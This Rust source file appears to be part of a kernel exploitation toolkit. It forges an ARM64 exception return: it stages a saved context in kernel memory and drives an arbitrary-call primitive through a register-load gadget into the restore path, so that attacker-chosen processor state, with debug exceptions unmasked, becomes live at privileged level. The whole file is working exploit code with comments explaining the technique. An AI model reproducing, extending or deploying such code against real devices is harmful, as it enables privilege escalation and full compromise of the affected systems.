//! Exception-return forging.
//!
//! Debug exceptions are suppressed, not pended, while the corresponding
//! status bit is set, and the kernel never clears it once privileged
//! execution is flowing. The only transition that rewrites the full
//! exception-mask state is an exception return, which reloads SPSR from a
//! saved context. Forging one therefore goes: stage a complete
//! [`SavedContext`] in kernel memory, then drive the arbitrary-call
//! primitive into a two-argument trampoline that loads the context pointer
//! into the register the full-context restore path expects and branches to
//! it. Whatever `cpsr` the staged context carries becomes the live
//! processor state.
//!
//! Nothing here validates the gadget addresses. Wrong addresses for the
//! running build are undefined behavior at the hardware level.

use vigil_kernel::{Kernel, KernelSymbol};

use crate::state::SavedContext;
use crate::Result;

/// SError mask bit of the saved processor status.
pub const SPSR_A: u32 = 1 << 8;

/// IRQ mask bit of the saved processor status.
pub const SPSR_I: u32 = 1 << 7;

/// FIQ mask bit of the saved processor status.
pub const SPSR_F: u32 = 1 << 6;

/// Debug mask bit of the saved processor status.
pub const SPSR_D: u32 = 1 << 9;

/// Mode selector: privileged execution on the shared stack pointer.
pub const SPSR_EL1_SP0: u32 = 0x4;

/// Post-return status used throughout the protocol: asynchronous classes
/// stay masked, the debug class is deliberately left unmasked, execution
/// continues privileged on SP0.
pub const SPSR_DEBUG_DELIVERABLE: u32 = SPSR_A | SPSR_I | SPSR_F | SPSR_EL1_SP0;

/// Performs a privileged exception return into `context`.
///
/// On return the privileged processor state is exactly `context`, including
/// its exception-mask bits. This is the only way to change the debug-mask
/// state of normally flowing privileged execution.
pub fn force_privileged_resume(kernel: &impl Kernel, context: &SavedContext) -> Result<u64> {
    let staged = kernel.alloc(SavedContext::SIZE)?;
    context.write_to(kernel, staged)?;

    let trampoline = kernel.symbol(KernelSymbol::RegisterLoadGadget)?;
    let restore = kernel.symbol(KernelSymbol::ExceptionReturn)?;

    tracing::debug!(
        pc = format_args!("{:#x}", context.pc),
        cpsr = format_args!("{:#x}", context.cpsr),
        "forging exception return"
    );

    Ok(kernel.call(trampoline, &[staged, restore])?)
}
